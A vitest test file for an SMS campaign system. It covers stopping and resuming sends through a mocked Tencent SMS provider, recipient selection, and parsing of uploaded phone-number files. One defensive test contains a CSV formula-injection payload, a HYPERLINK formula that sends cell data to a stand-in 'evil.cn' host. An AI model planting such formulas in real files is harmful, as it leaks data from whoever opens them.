import {
  type Campaign,
  listCampaignRecipients,
  pauseCampaign,
  resumeCampaign,
  stopCampaign,
  uploadCampaignNumbers,
} from '@roombook/contract/campaigns'
import { mergeCustomers } from '@roombook/contract/customer-merge'
import { deleteSegment, saveSegment } from '@roombook/contract/customer-segments'
import { withdrawSmsTemplate } from '@roombook/contract/sms-templates'
import { afterAll, afterEach, beforeEach, describe, expect, test } from 'vitest'
import {
  countOf,
  createCampaignActions,
  plantCampaignTemplate,
  plantCustomers,
} from '#test/campaign-fixture.ts'
import { catchRefusal } from '#test/catch-refusal.ts'
import { leaveParts, partsOf, wrongParts } from '#test/sms-stock.ts'
import { startTencentSms } from '#test/tencent-sms-server.ts'
import { startTestApp } from '#test/test-app.ts'
import { csvOf, workbookOf } from '#test/workbooks.ts'

const tencent = await startTencentSms()
afterAll(() => tencent.close())
const { as, clock, venue, owner } = await startTestApp(tencent.env)
const { shopId } = venue
tencent.now = () => clock.now()
const admin = await as(venue.staff.admin.phone)
let templateId = 0
const openCampaignFixture = () => createCampaignActions(admin, templateId)
const seen = ({ id: campaignId, version }: Pick<Campaign, 'id' | 'version'>) => ({ campaignId, version })
const countSendRequests = () => tencent.heard.filter((action) => action === 'SendSms').length
const phonesOf = () => tencent.messages.map(({ phone }) => phone.replace('+86', '')).toSorted()
const busy = 'RequestLimitExceeded'
const stock = 500

/**
 * Makes the provider hold back messages until it is released. Each message is sent singly, since no two names
 * are equal.
 */
function holdProvider() {
  const hold = Promise.withResolvers<void>()
  tencent.beforeHearing = hold.promise
  return () => {
    tencent.beforeHearing = undefined
    hold.resolve()
  }
}
let planting = 1
/** Customers for a campaign, with no others in its source. */
async function newPeople(count: number) {
  await owner.updateTable('customer').set({ source: '' }).execute()
  const people = await plantCustomers(owner, venue, { count, from: planting })
  planting += count
  return people
}
const smsOf = (campaignId: number) =>
  owner
    .selectFrom('sms_message')
    .select(['state', 'error', 'reserved'])
    .where('campaign_id', '=', campaignId)
    .execute()

/** Advances the clock until a campaign is paused for a reason, or is not paused. */
const passUntil = (campaignId: number, pause: Campaign['pause']) =>
  expect
    .poll(async () => {
      clock.pass(1)
      return (await openCampaignFixture().readStatus(campaignId)).pause
    })
    .toBe(pause)

beforeEach(async () => {
  clock.pass(2 * 24 * 60)
  clock.set(`${clock.now().toISOString().slice(0, 10)}T10:00:00+08:00`)
  await leaveParts(owner, shopId, stock)
  templateId = await plantCampaignTemplate(owner, shopId, { gateway: 'tencent' })
  tencent.messages.length = 0
  tencent.heard.length = 0
  Object.assign(tencent, { refuses: '', refusesOne: {}, beforeHearing: undefined })
})
afterEach(async () => {
  expect(await wrongParts(owner, shopId)).toEqual([])
})

describe('a campaign, while its messages are with the provider', () => {
  test('is stopped, and what did not leave then never does, and gives its parts back', async () => {
    await newPeople(5)
    const release = holdProvider()
    const { id } = await openCampaignFixture().create()
    await expect.poll(countSendRequests).toBe(5)
    expect(await partsOf(owner, shopId)).toMatchObject({ left: stock - 5, reserved: 5 })
    await admin.call(stopCampaign, seen(await openCampaignFixture().readStatus(id)))
    tencent.refuses = busy
    release()
    await expect.poll(async () => (await smsOf(id)).map(({ state }) => state)).not.toContain('sending')
    tencent.refuses = ''
    await expect
      .poll(async () => {
        clock.pass(1)
        return new Set((await smsOf(id)).map(({ state, error }) => state + error))
      })
      .toEqual(new Set(['failed群发已停止']))
    expect(await partsOf(owner, shopId)).toMatchObject({ left: stock, reserved: 0 })
    expect(phonesOf()).toEqual([])
    expect(await openCampaignFixture().readStatus(id)).toMatchObject({ state: 'stopped' })
  })

  test('is paused, and said to go on by two at once: one is told it did already, nobody is written to twice', async () => {
    const people = await newPeople(5)
    const release = holdProvider()
    const { id } = await openCampaignFixture().create()
    await expect.poll(countSendRequests).toBe(5)
    const { campaign } = await admin.call(pauseCampaign, seen(await openCampaignFixture().readStatus(id)))
    expect((await catchRefusal(admin.call(pauseCampaign, seen(campaign)))).code).toBe('campaigns.state')
    tencent.refuses = busy
    release()
    await expect.poll(async () => (await smsOf(id)).map(({ state }) => state)).not.toContain('sending')
    tencent.refuses = ''
    clock.pass(2)
    // The campaign is paused, so messages that were put back wait.
    expect(await openCampaignFixture().readStatus(id)).toMatchObject({ state: 'paused', pause: 'staff' })
    expect(phonesOf()).toEqual([])
    const resume = () => admin.call(resumeCampaign, { ...seen(campaign), startAt: null })
    const ends = await Promise.allSettled([resume(), resume(), resume()])
    expect(ends.filter(({ status }) => status === 'fulfilled')).toHaveLength(1)
    for (const end of ends)
      if (end.status === 'rejected') expect(end.reason).toMatchObject({ code: 'campaigns.stale' })
    await openCampaignFixture().until(id, 'done')
    expect(phonesOf()).toEqual(people.map(({ phone }) => phone).toSorted())
  })

  test('has its words withdrawn: what was with the provider has left, what came back waits for words', async () => {
    await newPeople(3)
    const release = holdProvider()
    const { id } = await openCampaignFixture().create()
    await expect.poll(countSendRequests).toBe(3)
    await admin.call(withdrawSmsTemplate, { templateId, version: await versionOf(templateId) })
    tencent.refuses = busy
    release()
    await expect.poll(async () => (await smsOf(id)).map(({ state }) => state)).not.toContain('sending')
    tencent.refuses = ''
    await passUntil(id, 'template')
    const campaign = await openCampaignFixture().readStatus(id)
    expect(phonesOf()).toEqual([])
    const goOn = admin.call(resumeCampaign, { ...seen(campaign), startAt: null })
    expect((await catchRefusal(goOn)).code).toBe('campaigns.template')
    await admin.call(stopCampaign, seen(campaign))
    expect(new Set((await smsOf(id)).map(({ state }) => state))).toEqual(new Set(['failed']))
    expect(await partsOf(owner, shopId)).toMatchObject({ left: stock, reserved: 0 })
  })

  test('that rests for want of stock goes on by itself once there is some, and not before, whatever is pressed', async () => {
    await newPeople(4)
    await leaveParts(owner, shopId, 1)
    const { id } = await openCampaignFixture().create()
    await openCampaignFixture().until(id, 'paused', 'stock')
    expect(phonesOf()).toHaveLength(1)
    // A paused campaign cannot be paused again; when resumed it pauses again without sending.
    const rests = async () => seen(await openCampaignFixture().readStatus(id))
    expect((await catchRefusal(admin.call(pauseCampaign, await rests()))).code).toBe('campaigns.state')
    await admin.call(resumeCampaign, { ...(await rests()), startAt: null })
    await openCampaignFixture().until(id, 'paused', 'stock')
    expect(phonesOf()).toHaveLength(1)
    await leaveParts(owner, shopId, 10)
    await passUntil(id, null)
    const done = await openCampaignFixture().until(id, 'done')
    expect([phonesOf().length, countOf(done, 'accepted')]).toEqual([4, 4])
  })
})

const versionOf = async (id: number) =>
  (await owner.selectFrom('sms_template').select('version').where('id', '=', id).executeTakeFirstOrThrow())
    .version

describe('whom a campaign has chosen', () => {
  const later = () => new Date(clock.now().getTime() + 3_600_000).toISOString()
  const countStates = async (campaignId: number) => {
    const { list } = await admin.call(listCampaignRecipients, { campaignId, page: 1, limit: 50 })
    return list.map(({ customerId, standing, reason }) => [customerId, standing, reason])
  }

  test('are held out by none of a hundred, by half at most, and never all of them', async () => {
    await newPeople(1)
    const one = await openCampaignFixture().create({ holdOutPercent: 50, startAt: later() })
    expect([one.chosen, countOf(one, 'held')]).toEqual([1, 0])
    await newPeople(4)
    const half = await openCampaignFixture().create({ holdOutPercent: 50, startAt: later() })
    expect([half.chosen, countOf(half, 'held')]).toEqual([4, 2])
    const none = await openCampaignFixture().create({ holdOutPercent: 0, startAt: later() })
    expect([none.chosen, countOf(none, 'held')]).toEqual([4, 0])
    for (const holdOutPercent of [51, 100, -1, 2.5])
      expect(
        await catchRefusal(openCampaignFixture().create({ holdOutPercent, startAt: later() })),
      ).toMatchObject({
        fields: { holdOutPercent: expect.any(String) },
      })
  })

  test('stay chosen when the segment that found them is deleted while it waits', async () => {
    const people = await newPeople(3)
    const { segment } = await admin.call(saveSegment, {
      segmentId: null,
      version: null,
      title: '将删的人群',
      filter: { keyword: '', anyLabelIds: [], source: '群发测试' },
    })
    const { id } = await openCampaignFixture().create({
      source: { kind: 'segment', segmentId: segment.id },
      startAt: later(),
    })
    await admin.call(deleteSegment, { segmentId: segment.id, version: segment.version })
    clock.pass(61)
    const done = await openCampaignFixture().until(id, 'done')
    expect(done.source).toMatchObject({ kind: 'segment', title: '将删的人群' })
    expect(phonesOf()).toEqual(people.map(({ phone }) => phone).toSorted())
  })

  test('and are merged while they wait are written to once, at the number of whoever is kept', async () => {
    const [kept, gone] = await newPeople(2)
    if (!kept || !gone) throw new Error('they are there')
    const { id } = await openCampaignFixture().create({ startAt: later() })
    const rows = await owner
      .selectFrom('customer')
      .select(['id', 'version'])
      .where('id', 'in', [kept.id, gone.id])
      .execute()
    const version = (of: number) => rows.find((row) => row.id === of)?.version ?? 0
    await admin.call(mergeCustomers, {
      keepId: kept.id,
      keepVersion: version(kept.id),
      goneId: gone.id,
      goneVersion: version(gone.id),
    })
    clock.pass(61)
    await openCampaignFixture().until(id, 'done')
    expect(phonesOf()).toEqual([kept.phone])
    expect(await countStates(id)).toContainEqual([kept.id, 'skipped', '手机号已更换'])
  })

  test('two campaigns that begin at one moment have between them written to each once', async () => {
    const people = await newPeople(6)
    const startAt = later()
    const [one, other] = [
      await openCampaignFixture().create({ startAt }),
      await openCampaignFixture().create({ startAt }),
    ]
    clock.pass(61)
    const ended = [
      await openCampaignFixture().until(one.id, 'done'),
      await openCampaignFixture().until(other.id, 'done'),
    ]
    expect(phonesOf()).toEqual(people.map(({ phone }) => phone).toSorted())
    expect(ended.reduce((sum, campaign) => sum + countOf(campaign, 'accepted'), 0)).toBe(6)
    expect(ended.flatMap(({ skipped }) => skipped)).toEqual([{ reason: 'recent', count: 6 }])
  })
})

describe('a file of numbers', () => {
  const upload = async (bytes: Buffer) =>
    (await admin.client.upload(uploadCampaignNumbers, new Blob([new Uint8Array(bytes)]))).data

  test('of twenty thousand rows is read whole: repeated, foreign and empty ones are told apart', async () => {
    const people = await newPeople(3)
    const rows: string[][] = [['姓名', '手机']]
    for (let at = 0; at < 20_000; at++) {
      const kind = at % 10
      const phone = kind < 6 ? String(13_700_000_000 + at) : kind < 8 ? people[at % 3]?.phone : undefined
      rows.push([`客人${at}`, phone ?? (kind === 8 ? '+852 9123 4567' : '')])
    }
    const file = await upload(csvOf(rows))
    expect(file).toMatchObject({ numbers: 12_003, withoutMobile: 4000, repeated: 3997 })
    const { id } = await openCampaignFixture().create({ source: { kind: 'file', fileId: file.fileId } })
    const done = await openCampaignFixture().until(id, 'done')
    expect(done.leftOut).toEqual(
      expect.arrayContaining([
        { reason: 'stranger', count: 12_000 },
        { reason: 'no_mobile', count: 4000 },
        { reason: 'twice', count: 3997 },
      ]),
    )
    expect(phonesOf()).toEqual(people.map(({ phone }) => phone).toSorted())
  })

  test('has numbers as Excel keeps them as text, as numbers and as formulas; what a formula would do is not done', async () => {
    const [first, second, third] = await newPeople(3)
    const rows = [
      ['手机'],
      [`="${first?.phone}"`],
      [`'${second?.phone}`],
      ['=HYPERLINK("http://evil.cn/?"&A1,"13700000001")'],
      ['=1+1'],
    ]
    const file = await upload(csvOf(rows))
    expect(file).toMatchObject({ numbers: 2, withoutMobile: 2, repeated: 0 })
    const book = await upload(await workbookOf([['手机'], [Number(third?.phone)], [`${first?.phone}`]]))
    expect(book).toMatchObject({ numbers: 2, withoutMobile: 0, repeated: 0 })
  })
})
